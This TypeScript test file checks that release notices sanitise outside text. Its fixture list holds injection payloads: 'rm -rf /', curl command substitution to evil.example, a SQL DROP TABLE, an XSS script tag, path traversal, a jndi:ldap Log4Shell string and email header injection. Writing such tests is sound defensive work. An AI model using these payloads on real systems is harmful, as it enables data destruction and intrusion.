import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Verdict } from '../../../core/analysis/verdict.ts';
import type { Notice } from '../../../core/notice/notice.ts';
import type { EventBody } from '../../../core/release/event.ts';
import type { Trigger } from '../../../core/release/record.ts';
import { aFinding, badStory, recordAfter, story } from '../builders.ts';
import { mustTell } from './support.ts';

/** Tags, reasons and names that were written to do harm where they are shown. */
const hostile = [
  ';rm -rf / #',
  '`curl evil.example`',
  '$(curl evil.example)',
  '| tee /etc/passwd',
  '<!channel> <@U1> <http://evil.example|click>',
  "'; DROP TABLE releases; --",
  '"><script>alert(1)</script>',
  'line one\nSubject: forged\r\n\r\nbody',
  'nul \u0000 bell \u0007 escape \u001b[31m',
  '../../etc/passwd',
  'safe \u202e gpj.exe',
  'zero\u200bwidth\u2028separator',
  '${jndi:ldap://evil.example/a}',
  '{% $states.input %}',
  'lone \ud800 surrogate',
  'v'.repeat(129),
  '*bold* ~strike~ [link](http://evil.example)',
  '\u{1f600}'.repeat(400),
];

/** Who overrides alarms has written their names, and a reason. */
function overriding(text: string): Notice {
  const bodies = [...story.admitted, story.built[0]];
  const trigger: Trigger = {
    kind: 'operator',
    actor: text,
    reason: text,
    overriddenAlarms: Array.from({ length: 20 }, () => text),
  };
  return mustTell(bodies, { record: { ...recordAfter(bodies), trigger } });
}

function withText(text: string, kind: 'rolled-back' | 'rejected'): Notice {
  const bodies: readonly EventBody[] =
    kind === 'rolled-back' ? badStory : [{ type: 'release.rejected', reason: text, evidence: {} }];
  const record = recordAfter(bodies);
  const artifact = { ...record.artifact, version: text };
  const verdict: Verdict = {
    outcome: 'fail',
    reason: text,
    findings: Array.from({ length: 30 }, () =>
      aFinding({ outcome: 'fail', metric: text, reason: text }),
    ),
  };
  const reasoned = 'reason' in record ? { ...record, reason: text, artifact } : record;
  return mustTell(bodies, {
    record: reasoned,
    verdict,
    serving: Array.from({ length: 5 }, () => ({ version: text, weightPercent: 20 })),
  });
}

function expectHarmless(notice: Notice): void {
  const { subject, text, chat } = notice;
  expect(subject).toMatch(/^[A-Za-z][\x20-\x7e]{0,98}$/);
  expect(text.length).toBeLessThanOrEqual(8000);
  expect(text).not.toMatch(/[\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
  expect(text.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
  // Nobody else's lines: every one is a known title or indented by us.
  const titles = ['What', 'Where', 'Version', 'Why', 'Done', 'Serving now', 'Next', ''];
  for (const line of text.split('\n')) {
    expect(titles.includes(line) || line.startsWith('  ') || line.endsWith('...')).toBe(true);
  }
  const { title, description, nextSteps } = chat.content;
  expect(title.length).toBeLessThanOrEqual(250);
  expect(description.length).toBeLessThanOrEqual(4000);
  for (const shown of [title, description, chat.metadata.summary, ...nextSteps]) {
    expect(shown).not.toMatch(/[<>]/);
    expect((shown.match(/`/g) ?? []).length % 2).toBe(0);
  }
  for (const value of Object.values(notice.attributes)) expect(value).toMatch(/^[\x20-\x7e]+$/);
  expect(JSON.parse(JSON.stringify(notice))).toEqual(notice);
}

describe('text from outside', () => {
  it.each(hostile.map((text, index) => [index, text] as const))(
    'does no harm wherever it is shown (%i)',
    (_index, text) => {
      expectHarmless(withText(text, 'rolled-back'));
      expectHarmless(withText(text, 'rejected'));
      expectHarmless(overriding(text));
    },
  );

  it('does no harm, whatever it is', () => {
    const anyText = fc.string({ unit: 'binary', maxLength: 2000 });
    fc.assert(
      fc.property(
        anyText,
        fc.constantFrom('rolled-back', 'rejected', 'overriding'),
        (text, kind) => {
          expectHarmless(kind === 'overriding' ? overriding(text) : withText(text, kind));
        },
      ),
      { numRuns: 300 },
    );
  });
});
